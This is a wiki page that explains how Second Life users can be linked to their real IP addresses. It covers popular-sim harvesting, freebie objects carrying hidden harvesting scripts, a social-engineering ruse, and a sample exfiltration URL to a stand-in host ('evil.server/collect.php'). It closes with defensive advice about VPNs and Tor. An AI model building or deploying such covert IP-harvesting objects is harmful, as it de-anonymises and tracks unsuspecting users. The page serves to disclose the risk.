The redzone was some third-party service in Second Life that allowed people to correlate between avatars and IP addresses. A while back, a great case was made out of it, and while the fluff was bigger than the punch, the main reason for creating a redzone service was to impose restrictions on users universally (all the alts included). This is not innovative in any way, in fact some MMOs such as GuildWars implement this feature server-side: once a player is ignored (muted in Second Life terminology), the ignore is set on the whole account such that rolling a new character (avatar in Second Life terminology) will not override that ignore.

The benefit of something like this is arguable both ways, however the triviality of how easy it is to accomplish such a correlation does not warrant leaving it up to obscurity on Linden's behalf.

This was sent to as as contract work long ago, however we turned it down, made it anyway, shut it down and we're now explaining the principles here.

Communications Overview

Second Life (and OpenSim) is a service that relies heavily on HTTP for transmitting data inand out of the world. Some of the communication between the avatar and the outside world is performed through Linden servers, whilst other communication is performed at the viewer level - between the viewer and the outside world.

The general distinction is made by scripts that reside within the virtual world:

  1. Using LSL-only, these are able to query most of the in-world environment and grab avatar names, primitive names, and so on. Additionally, llHTTPRequest can potentially (and it does in many cases) transmit this information to the outside world. Nevertheless, all the data transmitted by LSL scripts in Second Life first goes through the servers atLinden Labs and although a PHP script on the far side, on the Internet, could receive the data transmitted from within Second Life, it will only record the IP of the last exit node - in this case, the Linden Labs servers.
  2. On the other hand, new features such as Media-On-A-Prim, as well as older features such as shoutcast or video streams are only hinted to by the world to the viewer, and then the viewer connects to that address directly. In this latter case, the communication is performed directly between the viewer (on the client's machine) and whatever service is listening on the other far side of the Internet.

In the first case, it is impossible to use LSL to gather TCP-level identifying information from an avatar in-world. However, a combination of the first and second means of communication can be easily implemented in order to harvest avatars and their connecting IPs.


Two methods are explained that could easily be implemented - we mean easy from the perspective of the programming required, perhaps a fair share of struggle with testing and optimizing them.

  • Wide area - this involves mass-harvesting IP addresses using popular simulators.
  • Easter egg - this involves crafting objects that contain unreadable scripts that harvest the IP address of the receiver.

Wide Area

A boilerplate scenario would be to agree with several (or just very popular) simulator owners to harvest data for them. The set-up would involve parcelling the landing point - perhaps in $1m \times 1m$ parcels with either a media-on-a-prim primitive as the base or a shoutcast address for that small land parcel.

When the avatar teleports to that simulator, they get directed to the landing point, their viewer connects to a shoutcast or a websiteaddress that uses plain PHP (or other) methods to determine the IP and, additionally, the primitive sends their avatar name along with it. This method has its limitations because an avatar may reject to play the media anda different incoming agent may mix-up what IP belongs to whom.

Nevertheless, the specifics could be worked out in order to be precise enough. Since we assumed that we will be doing this on very popular simulators, there will most likely be revisits of the same avatars, so that the collected data could be gradually refined and made stronger in time.

Easter Egg

Perhaps a more feasiblesolution would be to create objects that have hidden scripts in them that load a webpage on a hidden primitive - or perhaps, it could be disguised as the functionality of the object itself. These could then be sold as freebies over marketplace and once rezzed would harvest the IP and avatar name of the buyer (We do not feel the need to mention, but no, Wizardry and Steamworks does not do that).

Perhaps some of those widely available gadgets on marketplace that show the weather around the world using media-on-a-prim, or perhaps some control panel for some service on the Internet that needs to display a webpage.

Impersonate a DJ or Beg For It (Funny, Social Engineering)

“Hey, could you help me? I am toying with my stream, I have a concert in 10 minutes, can you check to see whether you hear the stream?”

  • Record avatar name.
  • Read IP on Shoutcast/Icecast.
  • Rinse and repeat for all avatars you can find.

Attack Vector

The attack vector, from a programming standpoint, as mentioned previously is trivial. The sketch below illustrates a simple clusterfuck of an avatar that rezzes an object containing a malicious script.

The following steps are performed by this attack:

  • the LSL script harvests the avatar name, owner key, position, etc... Anything that is available as Second Life identity information.
  • the LSL script then crafts an URL that would make a GET or POST request to a webserver.
  • the LSL script sets that crafted URL on the face of a primitive of the Egg object.

The avatar is thus compromised in two steps:

  1. the Second Life information is compromised when it gets sent to the webserver.
  2. the Real Life informationis compromised when the avatar loads the media on the prim.

Since the media-on-a-prim queries a crafted URL, such as:

http://evil.server/collect.php?name=Phillip Linden&key=16136ec3-0b28-44b2-8d8b-4244d66263f0

only when the avatardisplays the media-on-a-prim, then the PHP script on the receiving end can correlate the IP address with the GET and POST data sent by the LSL script.

Tracking Avatars In Real Time

  • Jewelry
  • Shoes
  • Hair• You get it...

Obsolete example code is available at the bottom of the page.

Liability Dumping

Third party viewers such as Firestorm tend to pitch-sell liability dumping as a guarantee for security. When they are shipped, they enable an option that allows an avatar to block or deny a connection to media streams, such as parcel music based on a popup. They literally prompt the user for some address like:


and they offer the user the option to deny or block the connection to that server.

That offers no protection at all, just an annoying pop-up since it is impossible to determine whether the destination webserver at really-good-streams.to is well-behaved.

A webserver could easily remap the MIME settings and interpret .pls files as PHP and the end-user facing a pop-up such as the one offered by Firestorm, has no clue whether the server is trust-worthy or not.

The only achievement is more confusion and even better masked evil servers.


Either use a VPN or tor to hide your identity from third-parties in Second Life. Note that piping your Second Life traffic over such services will hide your traffic from Linden but your viewer bypasses Linden servers so while you are hidden from Linden Labs, you are still wide-open to third-parties in Second Life. On that note,you should pass your entire trafficthrough those services rather than just your viewer traffic 1).

Hopefully, until Linden Labs enables flash or java/javascript on a primitive, you could potentially still be safe from web-based data-mining techniques.


The following are sketch-level scripts that were created cca. 2010 - we noticed that it more about illicit behavior than a technological challenge, so we did not expand on them properly to get them to the level of a deliverable payload.

Script Name Description
client_side LSL script to harvest avatar data.server_side PHP (or others) to receive the LSL data and the connecting IP.
not sure whether the proxy settings in the viewers also fetch the media streams through the configured proxy as well as Lindendata

secondlife/redzone.txt · Last modified: 2017/02/22 18:30 (externaledit)

Access website using Tor

For the copyright, license, warranty and privacy terms for the usage of this websiteplease see the license and privacy pages.